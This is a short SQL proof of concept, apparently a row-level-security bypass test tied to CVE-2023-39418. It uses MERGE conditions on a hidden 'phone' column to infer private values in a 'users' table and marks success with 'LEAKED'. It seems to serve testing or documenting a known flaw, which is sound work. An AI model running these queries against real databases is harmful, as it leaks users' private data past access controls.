-- what: MERGE chooses an action by the hidden row's value, of the target and of the source
-- known: bypasses.md: CVE-2023-39418
-- purpose: service
CREATE TABLE mine (id bigint, hit boolean);
INSERT INTO mine VALUES (666, false);
MERGE INTO users USING mine ON user_id = id WHEN MATCHED AND phone LIKE '1390%' THEN UPDATE SET city = 'guessed';
SELECT 'LEAKED' FROM users WHERE city = 'guessed';
MERGE INTO mine USING users ON user_id = id WHEN MATCHED AND phone LIKE '1390%' THEN UPDATE SET hit = true;
MERGE INTO mine USING users ON user_id = id AND phone LIKE '1390%' WHEN MATCHED THEN UPDATE SET hit = true;
SELECT 'LEAKED' FROM mine WHERE hit;
